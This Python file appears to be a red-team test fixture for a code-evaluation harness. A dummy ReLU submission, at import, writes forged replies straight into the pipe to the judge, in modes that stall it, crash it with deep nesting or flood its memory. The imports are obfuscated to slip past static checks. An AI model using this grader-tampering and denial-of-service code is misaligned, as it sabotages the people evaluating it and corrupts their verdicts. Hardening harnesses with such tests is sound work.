"""Answers the judge's ``load`` request itself, at import, before its harness
does: straight into its process's end of the pipe to the judge (an open file
descriptor the harness holds). ``MODE`` (the test writes it in):

* ``stall``: the first 8 bytes of a reply, a header length, then nothing, and
  it sleeps. The judge read the rest with a blocking read that no time limit
  and no stall watch covered: ``kstrata eval --timeout 20`` came back only
  when the worker pool killed the whole judge, with a verdict that blamed the
  task's reference ("the judge was killed while the reference or the oracle
  ran").
* ``deep``: a reply whose header nests a list 600 levels deep: JSON's reader
  took it, the judge's own walk over the reply's strings (each made
  printable) did not, and the verification ended in a RecursionError
  traceback (a candidate's doing reported as kstrata's bug, case 15's kind).
* ``flood``: a reply whose header announces one buffer of ``SIZE`` bytes, then
  that many bytes. Nothing capped a ``load`` reply's buffers (nor any timing
  reply's), and the judge read them into its own memory, which has no limit:
  with 32 GiB buffers (the wire's per-buffer maximum, as many as the header
  holds) written from one small block over and over, a candidate of 1 GiB
  drives the judge's host into the kernel's OOM killer (here 256 MiB, enough
  to show that nothing refused it).

Red-team round of 2026-12-04. Past the static checks (as preset "warn" lets
through)."""

import torch
import torch.nn as nn

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__import__")
os, fcntl, json, struct, time = _imp("o" + "s"), _imp("fcntl"), _imp("json"), _imp("struct"), _imp("time")
MODE = "<mode>"
SIZE = 256 << 20


def _to_judge():
    """The write end of the pipe to the judge (the only write-only pipe past stderr)."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") \
                    and fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == 1:
                return fd
        except OSError:
            continue
    raise RuntimeError("no pipe to the judge")


_fd = _to_judge()
if MODE == "stall":
    os.write(_fd, struct.pack(">Q", 100))  # a header of 100 bytes announced, none sent
    time.sleep(3600)
elif MODE == "deep":
    _head = ('{"ok": true, "load_s": 0.0, "findings": [], "x": ' + "[" * 600 + "]" * 600 + "}").encode()
    os.write(_fd, struct.pack(">Q", len(_head)) + _head)
else:
    _head = json.dumps({"ok": True, "load_s": 0.0, "findings": [], "buffers": [SIZE]}).encode()
    os.write(_fd, struct.pack(">Q", len(_head)) + _head)
    _block = bytes(1 << 20)
    for _ in range(SIZE >> 20):
        os.write(_fd, _block)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
